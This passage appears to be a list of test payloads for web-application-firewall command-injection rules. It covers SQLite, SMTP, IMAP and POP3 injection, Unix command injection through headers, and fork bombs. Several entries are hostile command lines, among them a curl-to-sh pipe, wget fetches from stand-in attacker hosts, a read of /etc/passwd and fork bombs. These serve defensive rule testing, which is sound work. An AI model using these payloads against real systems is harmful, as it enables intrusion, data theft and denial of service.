    ("rce", "932210 SQLite .load extension", "cookie", "db", "a;.load /tmp/evil.so"),
    ("rce", "932210 escapeSeqDecode: \\n-separated .import", "query", "stmt", "1;\\n.import /etc/passwd t"),

    # --- 932300 SMTP command injection ---
    ("mail_injection", "932300 SMTP RCPT TO injection in contact subject", "form", "subject",
     "Hello\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nspam\r\n."),
    ("mail_injection", "932300 SMTP MAIL FROM injected into email field", "form", "email",
     "me@example.com\r\nMAIL FROM:<ceo@victim.example>"),
    ("mail_injection", "932300 SMTP VRFY user enumeration", "query", "to", "x\r\nVRFY root"),
    ("mail_injection", "932300 SMTP AUTH PLAIN with base64 creds", "json", "from",
     "a@b.example\r\nAUTH PLAIN AGFkbWluAHBhc3N3b3Jk"),
    ("mail_injection", "932300 escapeSeqDecode: literal \\r\\n EHLO", "form", "name", "bob\\r\\nEHLO attacker.example"),
    ("mail_injection", "932300 SMTP EXPN mailing list expansion", "query", "mail", "z\r\nEXPN staff"),

    # --- 932310 IMAP command injection ---
    ("mail_injection", "932310 IMAP UID FETCH all messages", "query", "mailbox", "INBOX\r\nA1 UID FETCH 1:* (BODY[])"),
    ("mail_injection", "932310 IMAP STATUS probe", "form", "folder", "Sent\r\na002 STATUS INBOX (MESSAGES UNSEEN)"),
    ("mail_injection", "932310 IMAP SETACL grant anyone", "json", "box", "x\r\nA3 SETACL INBOX anyone +lrswipkxte"),
    ("mail_injection", "932310 IMAP LSUB enumerate", "query", "f", "INBOX\r\nA4 LSUB \"\" *"),
    ("mail_injection", "932310 IMAP AUTHENTICATE PLAIN", "form", "mbox", "INBOX\r\nA5 AUTHENTICATE PLAIN\r\n"),

    # --- 932320 POP3 command injection ---
    ("mail_injection", "932320 POP3 RETR message", "query", "msg", "1\r\nRETR 1"),
    ("mail_injection", "932320 POP3 DELE message", "form", "id", "3\r\nDELE 2"),
    ("mail_injection", "932320 POP3 USER/PASS login", "json", "user", "x\r\nUSER admin\r\nPASS hunter2"),
    ("mail_injection", "932320 POP3 TOP headers", "query", "n", "1\r\nTOP 1 0"),
    ("mail_injection", "932320 POP3 APOP digest", "form", "login",
     "y\r\nAPOP mrose c4c9334bac560ecc979e58001b3e22fb"),

    # --- 932236 Unix commands, larger list (PL2) ---
    ("rce", "932236 GET (libwww-perl) fetch", "query", "q", "x;GET http://evil.example/s.pl > /tmp/s.pl"),
    ("rce", "932236 apt-get install tooling", "form", "pkg", "a&&apt-get install -y nmap"),
    ("rce", "932236 arp table recon", "cookie", "h", ";arp -a"),
    ("rce", "932236 yes CPU burn", "json", "x", "|yes > /dev/null &"),
    ("rce", "932236 cat of config at value start", "query", "view", "cat ../config/database.yml"),

    # --- 932239 Unix commands in User-Agent / Referer (PL2) ---
    ("rce", "932239 wget in User-Agent", "header:User-Agent", "", "Mozilla/5.0;wget http://203.0.113.5/b -O /tmp/b"),
    ("rce", "932239 curl pipe in Referer", "header:Referer", "", "https://victim.example/|curl -s evil.example/r|sh"),
    ("rce", "932239 backtick uname in User-Agent", "header:User-Agent", "", "`uname -a`"),

    # --- 932161 shell paths in User-Agent / Referer (PL2) ---
    ("rce", "932161 /bin/bash in User-Agent", "header:User-Agent", "", "Mozilla/5.0 () /bin/bash -c 'id'"),
    ("rce", "932161 quote-split /usr/bin/p'e'rl in Referer", "header:Referer", "", "http://x.example/?c=/usr/bin/p'e'rl -e 1"),
    ("rce", "932161 normalizePath in User-Agent", "header:User-Agent", "", "/usr/./bin/../bin/wget -q evil.example"),

    # --- 932390 fork bomb (PL2) ---
    ("rce", "932390 named fork bomb", "query", "q", "bomb(){ bomb|bomb& };bomb"),
    ("rce", "932390 dot-named fork bomb in header", "header:X-Forwarded-Host", "", ".() { .|.& }; ."),
    ("rce", "932390 fork bomb in JSON", "json", "script", "f(){ f & f; };f"),
]
